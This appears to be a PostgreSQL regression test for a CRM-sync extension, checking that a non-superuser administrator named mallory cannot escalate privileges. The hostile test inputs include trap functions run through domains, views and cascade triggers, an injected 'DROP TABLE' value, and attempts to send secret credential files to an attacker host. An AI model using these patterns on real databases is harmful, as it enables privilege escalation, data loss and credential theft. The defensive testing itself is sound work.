-- An administrator who is no superuser cannot have anything run as one.
\set SHOW_CONTEXT never
CREATE EXTENSION crmsync;
SET client_min_messages = warning;
CREATE ROLE regress_crmsync_mallory;
CREATE ROLE regress_crmsync_owner;
SELECT crmsync.grant_role('regress_crmsync_mallory', 'admin');
SELECT crmsync.create_target('exchange', 'ews', 'http://127.0.0.1:9/EWS/Exchange.asmx', auth => 'basic', username => 'service', secret => 'secret');
CREATE SCHEMA mallory AUTHORIZATION regress_crmsync_mallory;
SET ROLE regress_crmsync_mallory;
CREATE TABLE mallory.person (id integer PRIMARY KEY, name text);
CREATE TABLE mallory.audience (record integer, mailbox text);
CREATE FUNCTION mallory.spell() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    RAISE WARNING 'runs as %', current_user;
    RETURN true;
END;
$$;
-- Constants are converted to their types when a query is compiled.
CREATE DOMAIN mallory.trap AS integer CHECK (mallory.spell());
CREATE DOMAIN mallory.plain_trap AS integer CHECK (VALUE > 0);
CREATE TYPE mallory.row_of_trap AS (value mallory.trap);
SELECT crmsync.create_link('l', 'exchange', 'contact', 'mallory.person', audience => 'mallory.audience');
SELECT crmsync.map('l', $$(('{5}'::mallory.trap[])::text)$$, 'notes');
SELECT crmsync.map('l', $$(('(5)'::mallory.row_of_trap)::text)$$, 'notes');
SELECT crmsync.map('l', $$(('{5}'::mallory.plain_trap[])::text)$$, 'notes');
SELECT crmsync.map('l', $$(('5'::mallory.trap)::text)$$, 'notes');    -- one value is checked only when it is read
SELECT crmsync.unmap('l', 'notes');
SELECT crmsync.map('l', $$(r.name || ' ' || '2030-01-01'::date || '{1,2}'::integer[]::text)$$, 'notes');
SELECT crmsync.watch('l', 'mallory.person', 'id', $$SELECT 1 WHERE $1 <> '' AND '{5}'::mallory.trap[] IS NULL$$);
SELECT crmsync.watch('l', 'mallory.person', 'id', $$SELECT 1 WHERE $1 <> ''; SELECT '{5}'::mallory.trap[]$$);

-- Where code runs as its owner in the session of somebody mightier, crmsync is not for it.
CREATE FUNCTION mallory.escalate() RETURNS integer LANGUAGE plpgsql AS $$
BEGIN
    PERFORM crmsync.grant_role('regress_crmsync_mallory', 'admin', 'l');
    RETURN 1;
END;
$$;
SELECT mallory.escalate();
CREATE MATERIALIZED VIEW mallory.later AS SELECT mallory.escalate() WITH NO DATA;
RESET ROLE;
REFRESH MATERIALIZED VIEW mallory.later;
SELECT * FROM crmsync.query_as_owner((SELECT id FROM crmsync.links), 'SELECT mallory.escalate()::text', NULL);
-- Nor for triggers: cascades run them as the owner of the table that they are on.
CREATE TABLE public.customer (id integer PRIMARY KEY);
GRANT REFERENCES ON public.customer TO regress_crmsync_mallory;
CREATE ROLE regress_crmsync_accomplice;
SET ROLE regress_crmsync_mallory;
CREATE TABLE mallory.note (customer integer REFERENCES public.customer ON DELETE CASCADE);
CREATE FUNCTION mallory.promote() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    RAISE WARNING 'runs as %', current_user;
    PERFORM crmsync.grant_role('regress_crmsync_accomplice', 'admin');
    RETURN OLD;
END;
$$;
CREATE TRIGGER promote BEFORE DELETE ON mallory.note FOR EACH ROW EXECUTE FUNCTION mallory.promote();
RESET ROLE;
INSERT INTO public.customer VALUES (1);
INSERT INTO mallory.note VALUES (1);
DELETE FROM public.customer;
SELECT count(*) FROM crmsync.role_grant g WHERE g.role = 'regress_crmsync_accomplice';
DROP TABLE mallory.note, public.customer;

-- Nor does an administrator become the owner of a link by giving it something to run.
CREATE SCHEMA crm AUTHORIZATION regress_crmsync_owner;
SET ROLE regress_crmsync_owner;
CREATE TABLE crm.person (id integer PRIMARY KEY, name text);
CREATE TABLE crm.audience (record integer, mailbox text);
CREATE TABLE crm.salary (person integer, amount integer);
RESET ROLE;
GRANT USAGE ON SCHEMA crm TO regress_crmsync_mallory;
SELECT crmsync.create_link('theirs', 'exchange', 'contact', 'crm.person', audience => 'crm.audience');
SELECT crmsync.map('theirs', '(upper(r.name))', 'surname');
SET ROLE regress_crmsync_mallory;
SELECT crmsync.map('theirs', 'name', 'given_name');
SELECT crmsync.map('theirs', '(mallory.spell()::text)', 'notes');
SELECT crmsync.watch('theirs', 'crm.salary', 'person');
SELECT crmsync.watch('theirs', 'crm.salary', 'person', 'SELECT mallory.escalate() WHERE $1 IS NOT NULL');
SELECT crmsync.alter_link('theirs', audience => 'mallory.audience');
-- Nor has it write, or delete, what users of mailboxes like.
SELECT crmsync.alter_link('theirs', direction => 'both');
SELECT crmsync.alter_link('theirs', direction => 'both', on_target_delete => 'delete');
RESET ROLE;
SELECT crmsync.alter_link('theirs', direction => 'both');
SET ROLE regress_crmsync_mallory;
SELECT crmsync.alter_link('theirs', on_target_delete => 'delete');
SELECT crmsync.alter_link('theirs', on_target_delete => 'unlink');
-- He can take it over, as himself.
SELECT crmsync.alter_link('theirs', audience => 'mallory.audience', owner => 'regress_crmsync_mallory');
-- Nor by having its import write elsewhere.
RESET ROLE;
SELECT crmsync.create_target('directory', 'ldap', 'ldap://127.0.0.1:9', auth => 'none');
CREATE TABLE crm.member (person integer, team integer, PRIMARY KEY (person, team));
CREATE TABLE crm.administrator (person integer, level integer, PRIMARY KEY (person, level));
ALTER TABLE crm.member OWNER TO regress_crmsync_owner;
ALTER TABLE crm.administrator OWNER TO regress_crmsync_owner;
SELECT crmsync.create_link('staff', 'directory', 'user', 'crm.person', owner => 'regress_crmsync_owner',
    options => '{"base": "dc=example", "memberships": {"table": "crm.member", "user": "person", "group": "team"}}');
SET ROLE regress_crmsync_mallory;
SELECT crmsync.alter_link('staff', options => '{"memberships": {"table": "crm.administrator", "user": "person", "group": "level"}}');
SELECT crmsync.alter_link('staff', options => '{"filter": "(uid=*)"}');
SELECT crmsync.alter_link('staff', options => '{"exclusive": true}');
-- What is no expression is a value, whatever it looks like.
SELECT crmsync.map_group('staff', 'cn=sales', '(SELECT mallory.escalate()) + 0');
SELECT crmsync.map_group('staff', 'cn=sales', '(SELECT mallory.escalate())');
SELECT crmsync.map_group('staff', 'cn=sales', '5)) AS g(name, value); DROP TABLE crm.salary; --');
SELECT crmsync.map_group('staff', 'cn=sales', '5');
RESET ROLE;
SELECT crmsync.map_group('staff', 'cn=sales', '(7 /* seven */)');
SELECT crmsync.group_value(l, g.crm_group) FROM crmsync.link l JOIN crmsync.group_mapping g ON g.link = l.id ORDER BY 1;
SET ROLE regress_crmsync_mallory;
-- What the owner of a link may not read, it cannot watch.
SELECT crmsync.watch('l', 'crm.salary', 'amount', 'SELECT mallory.escalate() WHERE $1 IS NOT NULL');
SELECT * FROM crmsync.enable_link('l');
RESET ROLE;

-- The files in crmsync.secret_directory are a superuser's: nobody else says where they are sent to,
-- unless crmsync.allowed_hosts, which is empty here, says how far they can get (185_secret_files.pl).
SELECT crmsync.create_target('mail', 'ews', 'https://mail.invalid/EWS/Exchange.asmx', 'basic', 'service', 'file:exchange');
SELECT crmsync.create_target('certified', 'ldap', 'ldaps://ldap.invalid', 'external', options => '{"cert_file": "client.pem", "key_file": "client.key"}');
SET ROLE regress_crmsync_mallory;
SELECT crmsync.create_target('mine', 'ews', 'https://attacker.invalid', 'basic', 'service', 'file:exchange');
SELECT crmsync.create_target('mine', 'ews', 'https://mail.invalid/EWS/Exchange.asmx', 'basic', 'service', 'file:exchange');
SELECT crmsync.create_target('mine', 'ews', 'https://attacker.invalid', 'oauth2', NULL, 'file:exchange', '{"client_id": "1", "tenant": "x.invalid"}');
SELECT crmsync.create_target('mine', 'ldap', 'ldaps://attacker.invalid', 'external', options => '{"cert_file": "client.pem", "key_file": "file:client.key"}');
SELECT crmsync.create_target('mine', 'ews', 'https://attacker.invalid', 'negotiate', options => '{"keytab": "service.keytab"}');
SELECT crmsync.alter_target('exchange', secret => 'file:exchange');
SELECT crmsync.alter_target('exchange', options => '{"key_file": "client.key"}');
SELECT crmsync.alter_target('mail', secret => 'file:exchange');
SELECT crmsync.alter_target('mail', url => 'https://attacker.invalid');
SELECT crmsync.alter_target('mail', url => 'https://attacker.invalid', secret => 'file:exchange');
SELECT crmsync.alter_target('mail', options => '{"tls_verify": false}', secret => 'file:exchange');
SELECT crmsync.alter_target('mail', auth => 'ntlm');
SELECT crmsync.alter_target('certified', url => 'ldaps://attacker.invalid');
SELECT crmsync.alter_target('certified', options => '{"tls_verify": false}');
-- What concerns no secret file is an administrator's, and so are secrets that they know.
SELECT crmsync.alter_target('mail', options => '{"timeout": 30}');
SELECT crmsync.create_target('mine', 'ews', 'https://mine.invalid', 'basic', 'service', 'my own', '{"ca_file": "ca.pem"}');
SELECT crmsync.alter_target('mail', url => 'https://mine.invalid', secret => 'my own');
SELECT crmsync.alter_target('certified', url => 'ldaps://mine.invalid', auth => 'none', reset => '{cert_file,key_file}');
RESET ROLE;
SELECT name, url, auth, options FROM crmsync.targets ORDER BY name;

DROP EXTENSION crmsync;
DROP SCHEMA mallory CASCADE;
DROP SCHEMA crm CASCADE;
DROP ROLE regress_crmsync_mallory, regress_crmsync_owner, regress_crmsync_accomplice;
